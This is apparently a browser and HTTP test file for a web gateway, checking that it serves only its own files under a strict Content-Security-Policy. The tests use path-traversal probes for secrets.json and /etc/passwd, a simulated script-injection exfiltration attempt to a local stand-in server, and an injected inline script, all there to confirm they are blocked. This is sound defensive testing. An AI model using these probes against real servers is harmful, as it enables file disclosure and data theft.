/** How the gateway serves the page: nothing but its files, under a policy that lets it run and reach nothing else. */
import { mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { once } from "node:events";
import { createServer } from "node:http";
import { type AddressInfo, connect } from "node:net";
import { tmpdir } from "node:os";
import path from "node:path";
import { gzipSync } from "node:zlib";
import { describe, expect } from "vitest";
import { buildPage } from "../../stack/api/page.ts";
import { newByokUser, newUser, stack } from "../harness/users.ts";
import { test } from "./browser.ts";

const get = (at: string) => fetch(stack.url + at);

/** Sends a path that fetch() would tidy up, byte for byte; the answer's head and body. */
async function getRaw(at: string): Promise<string> {
  const { hostname, port } = new URL(stack.url);
  const socket = connect(Number(port), hostname).setEncoding("utf8");
  socket.end(`GET ${at} HTTP/1.1\r\nhost: ${hostname}:${port}\r\nconnection: close\r\n\r\n`);
  let received = "";
  socket.on("data", (text) => (received += text));
  await once(socket, "close");
  return received;
}

describe("the files", () => {
  test("are the page and what it names, with types that browsers need not guess", async () => {
    const page = await get("/");
    expect(page.headers.get("content-type")).toBe("text/html;charset=utf-8");
    const names = (await page.text()).matchAll(/(?:src|href)="([^"]+)"/g);
    for (const [, name = ""] of names) {
      const file = await get(name);
      expect([name, file.status, file.headers.get("x-content-type-options")]).toEqual([name, 200, "nosniff"]);
    }
  });

  test("are kept for good by browsers where their name holds a hash, and asked for again elsewhere", async () => {
    const page = await get("/");
    const asset = /\/assets\/[^"]+\.js/.exec(await page.text())?.[0] ?? "";
    const cacheControl = async (at: string) => (await get(at)).headers.get("cache-control");
    expect(await cacheControl(asset)).toBe("public, max-age=31536000, immutable");
    expect(await cacheControl("/")).toBe("no-cache");
    expect(await cacheControl("/config.json")).toBe("no-store");
    const again = await fetch(stack.url, { headers: { "if-none-match": page.headers.get("etag") ?? "" } });
    expect(again.status).toBe(304);
  });

  test("tell the page of the project what every visitor may know", async () => {
    expect(await (await get("/config.json")).json()).toEqual({ publishableKey: stack.publishableKey });
  });

  test.for([
    "/../secrets.json",
    "/assets/../../secrets.json",
    "/%2e%2e/secrets.json",
    "/..%2fsecrets.json",
    "/assets/..%5c..%5csecrets.json",
    "/%252e%252e/secrets.json",
    "//etc/passwd",
    "/../../../../../../../../etc/passwd",
    "/index.html/../../secrets.json",
    "/assets/",
    "/package.json",
    "/%00",
    "/%",
  ])("are all there is: nothing at %s", async (at) => {
    const received = await getRaw(at);
    expect(received.split("\r\n", 1)).toEqual(["HTTP/1.1 404 Not Found"]);
    expect(received).not.toContain("masterKeys");
    expect(received).not.toContain("root:");
  });

  test("are only read", async () => {
    for (const method of ["POST", "PUT", "DELETE", "OPTIONS"]) {
      expect((await fetch(stack.url, { method })).status).toBe(404);
    }
  });

  test("are less than 150 kB of JavaScript when they are compressed", async () => {
    const folder = mkdtempSync(path.join(tmpdir(), "byok-page-"));
    try {
      await buildPage(folder);
      const scripts = readdirSync(folder, { recursive: true, encoding: "utf8" }).filter((name) => name.endsWith(".js"));
      const sizes = scripts.map((name) => gzipSync(readFileSync(path.join(folder, name))).byteLength);
      expect(sizes).not.toEqual([]);
      expect(sizes.reduce((sum, size) => sum + size, 0)).toBeLessThan(150_000);
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  });
});

describe("the policy", () => {
  test("is on everything that is served, and on what is not found", async () => {
    for (const at of ["/", "/config.json", "/favicon.svg", "/nothing"]) {
      const { headers } = await get(at);
      expect(headers.get("content-security-policy")).toBe(
        "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self'; base-uri 'none'; " +
          "form-action 'none'; frame-ancestors 'none'; require-trusted-types-for 'script'; trusted-types 'none'",
      );
      expect(headers.get("referrer-policy")).toBe("no-referrer");
      expect(headers.get("cross-origin-opener-policy")).toBe("same-origin");
    }
  });

  const tolerates = /Content Security Policy|Trusted(HTML|Script)|Failed to load|request to/;

  /** Somewhere else, with a page that frames others, and the requests that it got. */
  const elsewhere = test.extend("elsewhere", async ({}, { onCleanup }) => {
    const requests: string[] = [];
    const server = createServer((request, response) => {
      requests.push(`${request.method} ${request.url}`);
      const frames = new URL(request.url ?? "", "http://localhost").searchParams.getAll("frame");
      response.setHeader("content-type", "text/html");
      response.end(frames.map((frame) => `<iframe src="${frame}"></iframe>`).join(""));
    }).listen(0, "127.0.0.1");
    await once(server, "listening");
    onCleanup(async () => {
      const closed = once(server, "close");
      server.close();
      server.closeAllConnections();
      await closed;
    });
    return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, requests };
  });

  elsewhere("keeps a script that got into the page from sending anything away", async ({ visit, elsewhere }) => {
    const page = await visit(await newUser(), { tolerates });
    const blocked = await page.evaluate(async (url) => {
      const violations = new Set<string>();
      const { promise: all, resolve } = Promise.withResolvers<void>();
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
        violations.add(effectiveDirective);
        if (violations.size === 6) resolve();
      });
      await fetch(`${url}/fetch`).catch(() => undefined);
      navigator.sendBeacon(`${url}/beacon`, "key");
      new Image().src = `${url}/image`;
      const style = document.createElement("style");
      style.textContent = `body { background: url(${url}/style) }`;
      const frame = document.createElement("iframe");
      frame.src = `${url}/frame`;
      const form = document.createElement("form");
      form.action = `${url}/form`;
      document.body.append(style, frame, form);
      form.submit();
      try {
        document.body.innerHTML = `<img src="${url}/html">`;
      } catch {
        // Trusted types refuse it.
      }
      await all;
      return [...violations].sort();
    }, elsewhere.url);
    const directives = ["connect-src", "form-action", "frame-src", "img-src"];
    expect(blocked).toEqual([...directives, "require-trusted-types-for", "style-src-elem"]);
    expect(elsewhere.requests).toEqual([]);
  });

  test("runs no script that stands in the page itself", async ({ visit }) => {
    const page = await visit(null, { tolerates });
    const script = "document.documentElement.dataset.ran = 'yes'";
    await page.route("/", async (route) => {
      const response = await route.fetch();
      const html = await response.text();
      const injected = `<body onload="${script}"><script>${script}</script>`;
      await route.fulfill({ response, body: html.replace("<body>", injected) });
    });
    await page.reload();
    await page.getByRole("heading", { name: "Sign in" }).waitFor();
    expect(await page.content()).toContain("dataset.ran");
    expect(await page.locator("html[data-ran]").count()).toBe(0);
  });

  test("shares nothing with a provider's page that somebody opens at the address of the functions", async ({
    visit,
  }) => {
    const { user } = await newByokUser("openai", { behaviour: "garbage" });
    const page = await visit(user, { tolerates });
    await page.goto(`${stack.url}/functions/v1/byok/call/openai/v1/models?key=${user.accessToken}`);
    expect(await page.content()).toContain("This is no API.");
    expect(await page.evaluate(() => window.origin)).toBe("null");
  });

  elsewhere("keeps the page out of other sites' frames", async ({ visit, elsewhere }) => {
    const page = await visit(null, { tolerates });
    const harmless = `${stack.url}/auth/v1/.well-known/jwks.json`;
    const framing = `${elsewhere.url}/?frame=${harmless}&frame=${stack.url}`;
    await page.goto(framing);
    expect(page.frames().map((frame) => frame.url())).toEqual([framing, harmless, "chrome-error://chromewebdata/"]);
  });
});
